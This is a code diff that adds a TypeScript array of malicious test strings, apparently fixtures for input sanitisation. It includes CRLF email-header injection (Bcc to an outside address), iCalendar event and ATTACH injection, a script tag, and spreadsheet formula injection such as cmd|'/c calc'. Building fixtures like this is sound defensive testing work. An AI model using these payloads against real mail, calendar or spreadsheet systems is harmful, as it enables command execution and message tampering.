@@ -95,3 +95,18 @@ export const MALICIOUS_TEXTS = [
   '<style>@import "https://outside.example/a.css"</style>',
   '=HYPERLINK("https://outside.example")',
 ] as const;
+
+/** Texts that would begin a line, a header, an entry of a calendar or a formula of their own where a text ends. */
+export const MALICIOUS_LINES = [
+  'x\r\nBcc: else@outside.example',
+  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:ours\r\nEND:VEVENT',
+  'x\nATTACH:https://outside.example/a',
+  'x;CN="a":mailto:else@outside.example',
+  'x\r\n\r\n<script>alert(1)</script>',
+  "+cmd|'/c calc'!A0",
+  '-2+3+cmd|calc!A0',
+  '@SUM(1+1)*cmd|calc!A0',
+  'x,"\n=1+1",y',
+  'x;=1+1',
+  'x\t=1+1',
+] as const;
